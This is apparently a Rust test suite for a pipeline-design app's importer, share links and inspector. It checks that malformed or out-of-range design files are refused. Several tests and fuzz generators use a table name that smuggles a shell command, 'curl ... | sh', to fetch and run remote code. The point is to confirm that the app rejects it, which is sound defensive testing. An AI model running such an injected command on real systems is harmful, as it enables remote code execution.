//! Every way into the app accepts exactly what its own editor could
//! produce: hostile design files, links, saves and lab queries are
//! refused with a reason (or fall back with a note), never half-read, and
//! nothing accepted can smuggle a value past the inspector's limits.

// Test code: a panic is how a test fails.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod cases;
use proptest::prelude::*;
use serde_json::Value;

use partition_lab::design::files::file::{export, import, ImportError};
use partition_lab::design::files::link;
use partition_lab::design::graph::{StateChoice, WriteChoice};
use partition_lab::design::limits::{check_config, MAX_NEXT_ID, MAX_NODES};
use partition_lab::design::{Edit, EditError, Graph, History, NodeConfig, NodeId, NodeKind};
use partition_lab::engine::CommitOrder;
use partition_lab::export::canvas::export_code;
use partition_lab::scenarios::grading::grade::grade;
use partition_lab::scenarios::stories::currency::aug;

mod common;
use common::*;

/// The scenario 4 design that passes every rule, as a file's JSON.
fn passing_backfill_file() -> Value {
    let graph = backfill_design("bronze.orders", Plan::new(aug(3), aug(13), 3));
    assert!(
        grade(
            &partition_lab::scenarios::stories::currency::SCENARIO,
            &graph
        )
        .passed(),
        "the base design passes"
    );
    serde_json::from_str(&export(&graph, Some(4))).expect("own export is JSON")
}

fn write_node(file: &mut Value) -> &mut Value {
    let nodes = file["graph"]["nodes"].as_object_mut().expect("nodes");
    nodes
        .values_mut()
        .find(|n| n["config"].get("Write").is_some())
        .expect("a write target")
}

fn text(file: &Value) -> String {
    serde_json::to_string(file).expect("serialises")
}

#[test]
fn a_table_name_carrying_a_shell_command_is_refused_at_import() {
    let mut file = passing_backfill_file();
    write_node(&mut file)["config"]["Write"]["table"] =
        Value::from("silver.x;curl -s 1.2.3.4|sh;#");
    let refused = import(&text(&file));
    assert!(
        matches!(&refused, Err(ImportError::Damaged(why)) if why.contains("letters, digits")),
        "{refused:?}"
    );
    // The same through a share link.
    let value = base64_url(&text(&file));
    assert!(link::decode(&value).is_err());
}

/// Belt and braces: even a graph built in code, bypassing every check,
/// never puts a name that is not a plain identifier into the exports.
#[test]
fn exported_code_never_carries_a_name_the_inspector_refuses() {
    let mut graph = backfill_design("bronze.orders", Plan::new(aug(3), aug(13), 3));
    for node in graph.nodes.values_mut() {
        if let NodeConfig::Write { table, .. } = &mut node.config {
            *table = "silver.x;curl -s 1.2.3.4|sh;#".to_string();
        }
    }
    let refused = export_code(&graph).expect_err("no code for a name the inspector refuses");
    assert!(refused
        .iter()
        .all(|p| p.node.is_some() && p.message.contains("letters, digits")));
}

#[test]
fn out_of_range_numbers_are_refused_not_reinterpreted() {
    let state = |state: StateChoice| NodeConfig::State {
        state,
        commit: CommitOrder::StateAfterWrite,
        catch_up: false,
    };
    for (config, what) in [
        (
            state(StateChoice::PartitionList {
                lookback: u32::MAX,
                over: Default::default(),
            }),
            "Lookback",
        ),
        (
            state(StateChoice::Watermark {
                column: partition_lab::engine::WatermarkColumn::UpdatedAt,
                overlap_minutes: u32::MAX,
            }),
            "Overlap",
        ),
        (
            NodeConfig::Finaliser {
                allowed_lateness_days: u32::MAX,
                after_final: partition_lab::engine::AfterFinal::Adjustments,
            },
            "Allowed lateness",
        ),
    ] {
        let mut h = History::new(Graph::with_source("bronze.clicks"));
        // The editor refuses it...
        assert!(matches!(
            h.edit(&Edit::Add {
                config: config.clone(),
                x: 0,
                y: 0
            }),
            Err(EditError::OutOfLimits(why)) if why.contains(what)
        ));
        // ...and so does the importer, for a file claiming it.
        let mut graph = Graph::with_source("bronze.clicks");
        graph.nodes.insert(
            NodeId(1),
            partition_lab::design::Node {
                id: NodeId(1),
                x: 10,
                y: 10,
                config,
                fixed: false,
                unchosen: Vec::new(),
            },
        );
        graph.next_id = 2;
        let refused = import(&export(&graph, Some(1)));
        assert!(
            matches!(&refused, Err(ImportError::Damaged(why)) if why.contains(what)),
            "{what}: {refused:?}"
        );
    }
}

#[test]
fn a_huge_next_id_is_refused_and_ids_never_wrap() {
    let mut file = passing_backfill_file();
    file["graph"]["next_id"] = Value::from(u32::MAX);
    assert!(matches!(import(&text(&file)), Err(ImportError::Damaged(_))));

    // At the last id the editor refuses to add, rather than wrap onto node 0.
    let mut graph = Graph::with_source("bronze.clicks");
    graph.next_id = MAX_NEXT_ID - 1;
    let mut h = History::new(graph);
    h.edit(&Edit::Add {
        config: NodeConfig::default_for(NodeKind::Transform),
        x: 0,
        y: 0,
    })
    .expect("the last id");
    let before = h.current.clone();
    assert_eq!(
        h.edit(&Edit::Add {
            config: NodeConfig::default_for(NodeKind::Transform),
            x: 0,
            y: 0,
        }),
        Err(EditError::OutOfIds)
    );
    assert_eq!(h.current, before);
    assert_eq!(
        h.current.node(NodeId(0)).map(|n| n.kind()),
        Some(NodeKind::Source)
    );
}

#[test]
fn the_editor_refuses_the_node_the_importer_would_refuse() {
    let mut h = History::new(Graph::with_source("bronze.clicks"));
    while h.current.nodes.len() < MAX_NODES {
        h.edit(&Edit::Add {
            config: NodeConfig::default_for(NodeKind::Checks),
            x: 5,
            y: 5,
        })
        .expect("room for more");
    }
    assert_eq!(
        h.edit(&Edit::Add {
            config: NodeConfig::default_for(NodeKind::Checks),
            x: 5,
            y: 5,
        }),
        Err(EditError::TooManyNodes)
    );
    // The fullest design the editor allows still comes back from its file and link.
    let file = export(&h.current, Some(1));
    assert_eq!(import(&file).map(|f| f.graph), Ok(h.current.clone()));
    assert_eq!(
        link::decode(&link::encode(&h.current, Some(1))).map(|f| f.graph),
        Ok(h.current.clone())
    );
    // One node more, written by hand, is refused with the same number.
    let mut more: Value = serde_json::from_str(&file).expect("json");
    let extra = more["graph"]["nodes"]["1"].clone();
    let mut extra = extra;
    extra["id"] = Value::from(h.current.next_id);
    more["graph"]["nodes"][h.current.next_id.to_string()] = extra;
    more["graph"]["next_id"] = Value::from(h.current.next_id + 1);
    assert_eq!(
        import(&text(&more)).map(|f| f.graph.nodes.len()),
        Err(ImportError::TooManyNodes(MAX_NODES + 1))
    );
}

#[test]
fn the_fullest_design_the_editor_can_wire_fits_the_file_limit() {
    // 100 transforms and 99 write targets, every transform->write and
    // write->transform pair the editor allows until it refuses more.
    let mut h = History::new(Graph::with_source("bronze.clicks"));
    for i in 0..(MAX_NODES - 1) {
        let kind = if i % 2 == 0 {
            NodeKind::Transform
        } else {
            NodeKind::Write
        };
        h.edit(&Edit::Add {
            config: NodeConfig::default_for(kind),
            x: 9_999,
            y: 9_999,
        })
        .expect("add");
    }
    let ids: Vec<NodeId> = h.current.nodes.keys().copied().collect();
    let mut refused = false;
    'wire: for from in &ids {
        for to in &ids {
            match h.edit(&Edit::Connect {
                from: *from,
                to: *to,
            }) {
                Err(EditError::TooManyEdges) => {
                    refused = true;
                    break 'wire;
                }
                _ => continue,
            }
        }
    }
    assert!(refused, "the editor stops adding connections at its limit");
    let file = export(&h.current, Some(1));
    assert!(
        file.len() < partition_lab::design::files::file::MAX_BYTES,
        "{} bytes",
        file.len()
    );
    assert_eq!(import(&file).map(|f| f.graph), Ok(h.current.clone()));
}

#[test]
fn a_node_claiming_to_be_given_by_the_scenario_is_refused() {
    let mut file = passing_backfill_file();
    write_node(&mut file)["fixed"] = Value::from(true);
    assert!(matches!(import(&text(&file)), Err(ImportError::Damaged(_))));
}

fn base64_url(text: &str) -> String {
    use base64::Engine;
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(text)
}

/// A replacement for one leaf of a design file: plausible, extreme or hostile.
fn any_leaf() -> impl Strategy<Value = Value> {
    prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        prop_oneof![
            Just(-1i64),
            Just(0),
            Just(1),
            Just(60),
            Just(61),
            Just(3_661),
            Just(i64::from(u32::MAX)),
            Just(i64::MAX),
            any::<i64>()
        ]
        .prop_map(Value::from),
        any::<f64>().prop_map(Value::from),
        prop_oneof![
            Just("silver.x;curl -s 1.2.3.4|sh;#".to_string()),
            Just("2026-08-03".to_string()),
            Just("0001-01-01".to_string()),
            Just("9999-12-31".to_string()),
            Just("Merge".to_string()),
            Just("TwoPhases".to_string()),
            "\\PC{0,12}",
        ]
        .prop_map(Value::from),
    ]
}

/// Every path to a leaf of `value`.
fn leaves(value: &Value, path: &mut Vec<String>, out: &mut Vec<Vec<String>>) {
    match value {
        Value::Object(map) => {
            for (k, v) in map {
                path.push(k.clone());
                leaves(v, path, out);
                path.pop();
            }
        }
        Value::Array(list) => {
            for (i, v) in list.iter().enumerate() {
                path.push(i.to_string());
                leaves(v, path, out);
                path.pop();
            }
        }
        _ => out.push(path.clone()),
    }
}

fn leaf_mut<'a>(value: &'a mut Value, path: &[String]) -> Option<&'a mut Value> {
    path.iter().try_fold(value, |v, key| match v {
        Value::Object(map) => map.get_mut(key),
        Value::Array(list) => key.parse::<usize>().ok().and_then(|i| list.get_mut(i)),
        _ => None,
    })
}

proptest! {
    #![proptest_config(cases::cases(400))]

    /// A valid design with one field (or two) replaced: either refused
    /// with a reason, or a design every one of whose settings the
    /// inspector could make, that re-exports to itself and grades.
    #[test]
    fn a_design_file_mutated_field_by_field_is_refused_or_wholly_valid(
        picks in prop::collection::vec((any::<prop::sample::Index>(), any_leaf()), 1..3),
    ) {
        let mut file = passing_backfill_file();
        let mut paths = Vec::new();
        leaves(&file, &mut Vec::new(), &mut paths);
        for (index, leaf) in &picks {
            let path = index.get(&paths).clone();
            if let Some(slot) = leaf_mut(&mut file, &path) {
                *slot = leaf.clone();
            }
        }
        let written = text(&file);
        match import(&written) {
            Err(why) => prop_assert!(!why.to_string().is_empty()),
            Ok(design) => {
                for node in design.graph.nodes.values() {
                    prop_assert_eq!(check_config(&node.config), Ok(()), "{:?}", node.config);
                }
                let again = import(&export(&design.graph, design.scenario));
                prop_assert_eq!(again.as_ref(), Ok(&design));
                // Whatever it is, it grades (or is reported as unbuildable) without panicking.
                let _ = grade(&partition_lab::scenarios::stories::currency::SCENARIO, &design.graph);
            }
        }
        // The same bytes as a share link are judged the same way.
        prop_assert_eq!(link::decode(&base64_url(&written)).is_ok(), import(&written).is_ok());
    }

    #[test]
    fn lab_queries_never_panic_and_what_they_read_is_stable(
        pairs in prop::collection::vec(("[a-z]{1,12}", "\\PC{0,30}"), 0..8),
    ) {
        let get = |key: &str| pairs.iter().find(|(k, _)| k == key).map(|(_, v)| v.clone());
        let from = |query: String| move |key: &str| {
            query.split('&').filter_map(|p| p.split_once('=')).find(|(k, _)| *k == key).map(|(_, v)| v.to_string())
        };
        let (lateness, _) = partition_lab::labs::lateness::query::parse(get);
        let again = partition_lab::labs::lateness::query::parse(from(partition_lab::labs::lateness::query::to_query(&lateness)));
        prop_assert_eq!(again, (lateness, Vec::<String>::new()));
        let (backfill, present, _) = partition_lab::labs::backfill::query::parse(get);
        let again = partition_lab::labs::backfill::query::parse(from(partition_lab::labs::backfill::query::to_query(&backfill, present)));
        prop_assert_eq!(again, (backfill, present, Vec::<String>::new()));
        let (lab, notes) = partition_lab::labs::state_write::query::parse(get);
        for note in &notes {
            prop_assert!(note.chars().count() < 200, "a note repeats a short piece only: {}", note);
        }
        let run = lab.run.unwrap_or(1);
        let again = partition_lab::labs::state_write::query::parse(from(partition_lab::labs::state_write::query::to_query(&lab.controls, run, lab.present, lab.pinned, lab.guess.as_ref(), lab.room.as_ref())));
        prop_assert_eq!(again.0.controls, lab.controls);
        prop_assert_eq!(again.0.pinned, lab.pinned);
        prop_assert_eq!(again.0.guess, lab.guess);
        prop_assert_eq!(again.0.room, lab.room);
        prop_assert!(again.1.is_empty());
    }

    /// Whatever is typed into any inspector field, the result is either
    /// refused with a reason or a configuration within the limits.
    #[test]
    fn inspector_fields_take_only_what_the_limits_allow(
        kind in prop::sample::select(NodeKind::PALETTE.to_vec()),
        raw in prop_oneof![
            "\\PC{0,20}",
            "-?[0-9]{1,12}",
            "[0-9]{4}-[0-9]{2}-[0-9]{2}",
            Just("silver.x;curl -s 1.2.3.4|sh;#".to_string()),
        ],
    ) {
        let config = NodeConfig::default_for(kind);
        for field in partition_lab::design::inspector::form::fields(&config) {
            match partition_lab::design::inspector::form::set(&config, field.key, &raw) {
                Ok(next) => prop_assert_eq!(check_config(&next), Ok(())),
                Err(why) => prop_assert!(!why.is_empty()),
            }
        }
    }
}

#[test]
fn a_merge_without_a_key_is_a_problem_not_a_refusal() {
    // What the inspector produces mid-design ("choose a key") round-trips too.
    let mut graph = Graph::with_source("bronze.clicks");
    graph.nodes.insert(
        NodeId(1),
        partition_lab::design::Node {
            id: NodeId(1),
            x: 0,
            y: 0,
            config: NodeConfig::Write {
                table: "silver.clicks".into(),
                mode: WriteChoice::Merge { key: None },
            },
            fixed: false,
            unchosen: Vec::new(),
        },
    );
    graph.next_id = 2;
    assert_eq!(import(&export(&graph, Some(1))).map(|f| f.graph), Ok(graph));
}
